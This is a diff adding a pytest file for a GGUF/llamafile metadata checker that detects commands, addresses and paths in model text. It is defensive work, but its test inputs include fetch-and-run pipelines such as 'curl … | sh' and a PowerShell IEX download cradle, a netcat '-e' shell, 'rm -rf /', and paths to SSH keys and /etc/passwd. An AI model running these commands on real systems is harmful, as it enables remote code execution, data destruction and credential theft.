@@ -1,0 +1,110 @@
+"""Commands, addresses and paths in words (7.15): what is found, where, at which cost, and what is not."""
+
+from __future__ import annotations
+
+import pytest
+
+from llamafile_format.checks.evidence import Sort, search, shown
+from llamafile_format.checks.metadata import check_document
+from llamafile_format.checks.weights import check_gguf
+from llamafile_format.findings import Finding
+from llamafile_format.limits import METADATA_TEXT
+from llamafile_format.source import BytesSource
+from llamafile_format.weights.gguf_limits import FINDINGS_PER_RULE
+from spec.vectors.generate.gguf_builder import STRING, V3, model
+
+WORDS = {"LF5097", "LF5098", "LF5099", "LF5100"}
+
+
+def judged(*entries: bytes, base: int = 0) -> list[Finding]:
+    data = model(*entries)
+    _, findings = check_gguf(BytesSource(data), base=base, member="m.gguf")
+    return [finding for finding in findings if finding.rule in WORDS | {"LF9003"}]
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "curl https://a.b/c|sh",
+        "wget -qO- a.b | sudo -E bash -s",
+        "echo aGk= | base64 -d | /bin/sh",
+        "bash <(curl -s a.b)",
+        'eval "$(curl -s a.b)"',
+        "iwr a.b | iex",
+        "IEX (New-Object Net.WebClient).DownloadString('a')",
+        "curl a.b | env python3",
+    ],
+)
+def test_pipelines(text: str) -> None:
+    assert Sort.PIPELINE in {found.sort for found in search(text.encode())}
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "| php | node |\n|---|---|",
+        "curl is a program\n| sh | another |",
+        "echo" + " " * 500 + "| sh",
+        "fetching | pythonic",
+        "a shell | bash-like tools",
+        "weights in ./model and ../other",
+        "evaluate(x), retrieval (y), my_exec (z)",
+        "version 1.0.0 | C:\\models",
+    ],
+)
+def test_no_evidence(text: str) -> None:
+    assert list(search(text.encode())) == []
+
+
+@pytest.mark.parametrize(
+    ("text", "sort"),
+    [
+        ("__import__('os')", Sort.COMMAND),
+        ("subprocess.Popen(['a'])", Sort.COMMAND),
+        ("pickle.loads(x)", Sort.COMMAND),
+        ("nc 1.2.3.4 5 -e /x", Sort.COMMAND),
+        ("powershell -enc AAAA", Sort.COMMAND),
+        ("chmod +x a", Sort.COMMAND),
+        ("file:///home", Sort.ADDRESS),
+        ("javascript:alert(1)", Sort.ADDRESS),
+        ("~/.ssh/id_rsa", Sort.PATH),
+        ("\\\\host\\share", Sort.PATH),
+        ("..\\..\\x", Sort.PATH),
+        ("/etc/passwd", Sort.PATH),
+    ],
+)
+def test_other_evidence(text: str, sort: Sort) -> None:
+    assert sort in {found.sort for found in search(text.encode())}
+
+
+def test_a_find_stands_where_it_is_said_to_stand() -> None:
+    text = "x" * 100 + " rm -rf / " + "y" * 5000  # long enough to stay in the file
+    (finding,) = judged(V3.entry("general.description", STRING, text), base=7000)
+    data = model(V3.entry("general.description", STRING, text))
+    assert finding.where.offset == 7000 + data.index(b"rm -rf")
+    assert finding.where.field == "general.description"
+
+
+def test_vocabularies_and_templates_are_left_to_their_rules() -> None:
+    entries = [
+        V3.entry("tokenizer.chat_template", STRING, "{# rm -rf / #}"),
+        V3.entry("tokenizer.huggingface.json", STRING, "curl https://a.b/c | sh"),
+    ]
+    assert judged(*entries) == []
+
+
+def test_many_keys_are_bounded_and_so_is_the_text() -> None:
+    many = [V3.entry(f"x.{index}", STRING, "rm -rf /") for index in range(FINDINGS_PER_RULE + 5)]
+    assert len(judged(*many)) == FINDINGS_PER_RULE
+    long = [V3.entry(f"x.{index}", STRING, "y" * (METADATA_TEXT // 4)) for index in range(5)]
+    assert [finding.rule for finding in judged(*long, V3.entry("z", STRING, "rm -rf /"))] == ["LF9003"]
+
+
+def test_a_find_across_two_pieces_is_one() -> None:
+    data = b"x" * ((1 << 20) - 4) + b" rm -rf / "
+    (finding,) = check_document(data, 50, "CARD.md")
+    assert finding.where.offset == 50 + data.index(b"rm -rf")
+
+
+def test_what_is_shown_obeys_no_terminal() -> None:
+    assert shown(b"rm\x1b[2J -rf\n\xff/") == "rm [2J -rf \ufffd/"
